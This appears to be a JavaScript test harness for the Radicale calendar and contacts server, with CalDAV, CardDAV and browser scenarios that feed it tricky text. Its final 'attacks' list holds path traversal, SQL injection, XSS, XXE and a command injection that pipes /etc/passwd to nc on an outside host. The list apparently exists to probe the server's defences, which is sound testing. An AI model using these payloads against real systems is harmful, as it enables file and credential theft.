// Radicale: calendars and contacts over WebDAV, and its page for collections.
import { writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { files } from './state.mjs'
import { free } from './stage.mjs'
import { go, languages, markdown, python, shell, sql, tagged, tutorial } from './texts.mjs'

const dav = { 'User-Agent': 'Evolution/3.46.4', Authorization: `Basic ${btoa('jane:secret')}`, 'Accept-Language': 'de,en' }
const xml = { ...dav, 'Content-Type': 'application/xml; charset="utf-8"' }

// line escapes and folds a property (RFC 5545, sections 3.1 and 3.3.11).
function line(name, text) {
  const value = text.replace(/[\\;,]/g, '\\$&').replace(/\n/g, '\\n')
  return [...`${name}:${value}`].join('').match(/.{1,60}/gsu).join('\r\n ') + '\r\n'
}

const event = (uid, summary, description, more = '') => `BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//Ximian//NONSGML Evolution Calendar//EN\r\nBEGIN:VEVENT\r\nUID:${uid}\r\nDTSTAMP:20260301T080000Z\r\nDTSTART;TZID=Europe/Berlin:20260302T090000\r\nDTEND;TZID=Europe/Berlin:20260302T100000\r\n${line('SUMMARY', summary)}${line('DESCRIPTION', description)}${more}END:VEVENT\r\nEND:VCALENDAR\r\n`

const card = (uid, name, note) => `BEGIN:VCARD\r\nVERSION:3.0\r\nUID:${uid}\r\nFN:${name}\r\nN:${name.split(' ').reverse().join(';')};;;\r\nEMAIL;TYPE=work:${uid}@example.org\r\nTEL;TYPE=cell:+49 151 (234) 567-89\r\nURL:https://example.org/~${uid}/?a=1&b=2\r\n${line('NOTE', note)}END:VCARD\r\n`

async function calendar(user) {
  await user.fetch('/', { method: 'OPTIONS', headers: dav })
  await user.fetch('/', { method: 'PROPFIND', headers: { ...xml, Depth: '0' },
    body: '<?xml version="1.0" encoding="utf-8"?><d:propfind xmlns:d="DAV:"><d:prop><d:current-user-principal/><d:resourcetype/></d:prop></d:propfind>' })
  await user.fetch('/jane/work/', { method: 'MKCALENDAR', headers: xml,
    body: `<?xml version="1.0" encoding="utf-8"?><c:mkcalendar xmlns:d="DAV:" xmlns:c="urn:ietf:params:xml:ns:caldav" xmlns:a="http://apple.com/ns/ical/"><d:set><d:prop><d:displayname>Work &amp; "Büro" &lt;main&gt;</d:displayname><c:calendar-description>Jane's; don't share -- really</c:calendar-description><a:calendar-color>#ff8800</a:calendar-color><c:supported-calendar-component-set><c:comp name="VEVENT"/><c:comp name="VTODO"/></c:supported-calendar-component-set></d:prop></d:set></c:mkcalendar>` })
  let n = 0
  for (const text of Object.values(languages)) {
    const uid = `event-${++n}`
    await user.fetch(`/jane/work/${uid}.ics`, { method: 'PUT', headers: { ...dav, 'Content-Type': 'text/calendar; charset=utf-8', 'If-None-Match': '*' },
      body: event(uid, text.slice(0, 30), text, 'RRULE:FREQ=WEEKLY;BYDAY=MO,WE;COUNT=10\r\nATTENDEE;CN="O\'Brien, Pat";ROLE=REQ-PARTICIPANT:mailto:pat@example.org\r\n') })
  }
  const found = await (await user.fetch('/jane/work/', { method: 'REPORT', headers: { ...xml, Depth: '1' },
    body: '<?xml version="1.0" encoding="utf-8"?><c:calendar-query xmlns:d="DAV:" xmlns:c="urn:ietf:params:xml:ns:caldav"><d:prop><d:getetag/><c:calendar-data/></d:prop><c:filter><c:comp-filter name="VCALENDAR"><c:comp-filter name="VEVENT"><c:time-range start="20260301T000000Z" end="20260401T000000Z"/><c:prop-filter name="SUMMARY"><c:text-match collation="i;unicode-casemap">été</c:text-match></c:prop-filter></c:comp-filter></c:comp-filter></c:filter></c:calendar-query>' })).text()
  if (!found.includes('event-2')) throw new Error('the event in French was not found')
  await user.fetch('/jane/work/event-1.ics', { method: 'DELETE', headers: dav })
  await user.fetch('/jane/work/event-2.ics', { method: 'MOVE', headers: { ...dav, Destination: `${user.origin}/jane/work/event-two.ics`, Overwrite: 'F' } })
}

const code = (user) => notes(user, 'code', [markdown, sql, shell, python, go])
const page = (user) => notes(user, 'page', [tutorial])

async function notes(user, name, texts) {
  for (const [n, text] of texts.entries()) {
    const uid = `${name}-${n}`
    await user.fetch(`/jane/work/${uid}.ics`, { method: 'PUT', headers: { ...dav, 'Content-Type': 'text/calendar; charset=utf-8' },
      body: event(uid, `Review: ${text.split('\n')[0]}`, text, 'X-ALT-DESC;FMTTYPE=text/html:<html><body><p style="color: #333">Don\'t <b>forget</b> &amp; <a href="https://example.org/?a=1">read</a></p></body></html>\r\n') })
  }
}

async function contacts(user) {
  await user.fetch('/jane/people/', { method: 'MKCOL', headers: xml,
    body: '<?xml version="1.0" encoding="utf-8"?><d:mkcol xmlns:d="DAV:" xmlns:r="urn:ietf:params:xml:ns:carddav"><d:set><d:prop><d:resourcetype><d:collection/><r:addressbook/></d:resourcetype><d:displayname>People</d:displayname></d:prop></d:set></d:mkcol>' })
  for (const [uid, name, note] of [['pat', "Pat O'Brien", "Pat's; \"the boss\" -- select drinks from the list, union dues: 10 %"],
    ['zoe', 'Zoë Müller', languages.de], ['yuki', '雪 田中', languages.ja], ['ivan', 'Иван Петров', languages.ru]]) {
    await user.fetch(`/jane/people/${uid}.vcf`, { method: 'PUT', headers: { ...dav, 'Content-Type': 'text/vcard; charset=utf-8' }, body: card(uid, name, note) })
  }
  await user.fetch('/jane/people/', { method: 'REPORT', headers: { ...xml, Depth: '1' },
    body: '<?xml version="1.0" encoding="utf-8"?><r:addressbook-query xmlns:d="DAV:" xmlns:r="urn:ietf:params:xml:ns:carddav"><d:prop><d:getetag/><r:address-data/></d:prop><r:filter><r:prop-filter name="FN"><r:text-match match-type="contains">O\'Brien</r:text-match></r:prop-filter></r:filter></r:addressbook-query>' })
}

async function collections(user) {
  const page = await user.page()
  await page.goto('/.web/')
  await page.locator('#loginscene [data-name=user]').fill('jane')
  await page.locator('#loginscene [data-name=password]').fill('secret')
  await page.locator('#loginscene [type=submit]').click()
  await page.locator('#collectionsscene').getByText('Work & "Büro" <main>').waitFor()
  await page.getByText('Create new addressbook or calendar').click()
  await page.locator('#createcollectionscene [data-name=displayname]').fill("Team's \"stand-up\" <b>daily</b>")
  await page.locator('#createcollectionscene [data-name=description]').fill(`1 < 2; ${languages.fr}`)
  await page.locator('#createcollectionscene [data-name=color]').fill('#ff8800') // it would be random
  await page.locator('#createcollectionscene [type=submit]').click()
  await page.locator('#collectionsscene').getByText("Team's").waitFor()
  const file = join(user.dir, 'holidays.ics')
  await writeFile(file, event('holiday', 'Карнавал & "Fasching"', languages.emoji))
  const chooser = page.waitForEvent('filechooser')
  await page.getByText('Upload addressbook or calendar').click()
  const uploaded = page.waitForResponse((r) => r.request().method() === 'PUT')
  await (await chooser).setFiles(file)
  if (!(await uploaded).ok()) throw new Error('the calendar was not uploaded')
}

export default {
  name: 'radicale',
  needs: { '/usr/bin/radicale': 'radicale' },

  async start(stage) {
    const port = await free()
    const storage = join(stage.dir, 'collections')
    await stage.start('/usr/bin/radicale', ['--config', '', '--hosts', `127.0.0.1:${port}`, '--auth-type', 'none',
      '--storage-filesystem-folder', storage], { port })
    return { port, storage }
  },

  journeys: [
    { name: 'a calendar by CalDAV', walk: calendar },
    { name: 'an address book by CardDAV', walk: contacts },
    { name: 'collections in the browser, an upload', walk: collections },
    { name: 'code in the notes of events', walk: code, hard: true },
    { name: 'a page with a script in a note', walk: page, hard: true, known: tagged },
  ],

  state: (user) => files(user.app.storage, (name) => !/\.Radicale\.(cache|lock)|\.Radicale\.tmp/.test(name)),

  attacks: [
    { target: '/jane/work/..%2f..%2f..%2f..%2fetc%2fpasswd' },
    { target: `/jane/work/?q=${encodeURIComponent("' UNION SELECT name, password FROM users-- ")}` },
    { target: `/.web/?user=${encodeURIComponent('"><script>alert(document.cookie)</script>')}` },
    { target: `/jane/work/x.ics?cmd=${encodeURIComponent('; cat /etc/passwd | nc 203.0.113.7 4444')}` },
    { method: 'PROPFIND', target: '/jane/', headers: xml,
      body: '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><d:propfind xmlns:d="DAV:"><d:prop><d:displayname>&x;</d:displayname></d:prop></d:propfind>' },
  ],
}
